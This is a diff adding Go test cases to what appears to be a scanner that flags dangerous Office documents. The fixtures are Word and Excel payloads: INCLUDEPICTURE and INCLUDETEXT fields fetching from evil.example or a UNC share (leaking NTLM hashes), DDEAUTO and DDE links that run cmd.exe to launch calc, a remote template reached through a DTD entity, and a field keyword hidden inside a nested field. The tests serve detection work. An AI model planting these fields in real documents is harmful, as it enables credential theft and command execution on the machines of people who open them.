@@ -32,6 +32,18 @@ type classifyCase struct {
 	mismatch string   // exact Result.Mismatch ("" → must be empty)
 }
 
+// wordField is a Word document part with one field whose code is split
+// over the runs of parts.
+func wordField(parts ...string) []byte {
+	var b strings.Builder
+	b.WriteString(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`)
+	for _, p := range parts {
+		b.WriteString(`<w:r><w:instrText xml:space="preserve">` + p + `</w:instrText></w:r>`)
+	}
+	b.WriteString(`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`)
+	return []byte(b.String())
+}
+
 // utf16LE is s in UTF-16, little-endian, with a byte order mark.
 func utf16LE(s string) []byte {
 	out := []byte{0xff, 0xfe}
@@ -216,6 +228,21 @@ func TestClassify(t *testing.T) {
 		{name: "relationships with a DTD", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<!DOCTYPE r [<!ENTITY t "http://evil.example/t.dotm">]><Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="&t;" TargetMode="External"/></Relationships>`))), filename: "a.docx",
 			class: ClassOffice, findings: []string{"office: relationships not inspected (DTD) in word/_rels/document.xml.rels"}},
 		{name: "web hyperlink and internal parts", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml" TargetMode="Internal"/></Relationships>`))), filename: "a.docx",
+			class: ClassOffice, clean: true},
+		// Word fields that fetch a picture or a text (from a share: the
+		// NTLM hash), link an object or run DDE, and HYPERLINK fields to
+		// anything but the web, read from instrText split over runs.
+		{name: "INCLUDEPICTURE field split over runs", data: docx(t, deflate("word/document.xml", wordField(` INCLUDE`, `PICTURE "\\\\evil.example\\s\\a.png" \d `))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: external reference includepicture field in word/document.xml"}},
+		{name: "INCLUDETEXT field in a footer", data: docx(t, deflate("word/footer1.xml", wordField(` includetext "http://evil.example/x.docx" `))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: external reference includetext field in word/footer1.xml"}},
+		{name: "DDEAUTO simple field", data: docx(t, deflate("word/document.xml", []byte(`<w:document xmlns:w="w"><w:body><w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "/></w:p></w:body></w:document>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: external reference ddeauto field in word/document.xml"}},
+		{name: "HYPERLINK field to a share", data: docx(t, deflate("word/document.xml", wordField(` HYPERLINK "\\\\evil\\s\\x.docx" `))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: link to a network share (UNC path) in word/document.xml"}},
+		{name: "field keyword made by a field", data: docx(t, deflate("word/document.xml", []byte(`<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE "INCLUDEPICTURE"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> "\\\\evil\\s\\a.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: fields not inspected word/document.xml: a field's keyword made by another field"}},
+		{name: "ordinary fields", data: docx(t, deflate("word/document.xml", wordField(` HYPERLINK "https://www.city.example.lg.jp/link/a" `)), deflate("word/header1.xml", wordField(` PAGE \* MERGEFORMAT `)), deflate("word/footer1.xml", wordField(` HYPERLINK \l "_Toc1" `))), filename: "a.docx",
 			class: ClassOffice, clean: true},
 		{name: "workbook DDE link", data: docx(t, deflate("xl/externalLinks/externalLink1.xml", []byte(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`))), filename: "a.xlsx",
 			class: ClassOffice, findings: []string{"office: external reference ddelink in xl/externalLinks/externalLink1.xml"}},
